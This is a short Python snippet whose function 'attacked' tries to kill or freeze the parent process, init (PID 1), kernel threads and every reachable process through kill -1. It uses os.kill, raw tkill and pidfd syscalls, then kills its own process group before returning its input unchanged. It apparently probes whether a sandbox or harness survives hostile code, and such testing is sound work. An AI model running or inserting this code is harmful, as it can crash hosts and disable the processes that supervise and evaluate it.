import ctypes
import os
import signal
from contextlib import suppress

PIDFD_SEND_SIGNAL, PIDFD_OPEN, TKILL = 424, 434, 200


def attacked(x):
    libc = ctypes.CDLL(None)
    victims = {os.getppid(), 1, 2, 3, -1, 0} - {os.getpid()}
    for victim in victims:
        for number in (signal.SIGKILL, signal.SIGSTOP):
            with suppress(OSError):
                os.kill(victim, number)
            libc.syscall(TKILL, victim, number)
            libc.syscall(PIDFD_SEND_SIGNAL, libc.syscall(PIDFD_OPEN, victim, 0), number, 0, 0)
    with suppress(OSError):
        os.killpg(0, signal.SIGKILL)
    return x
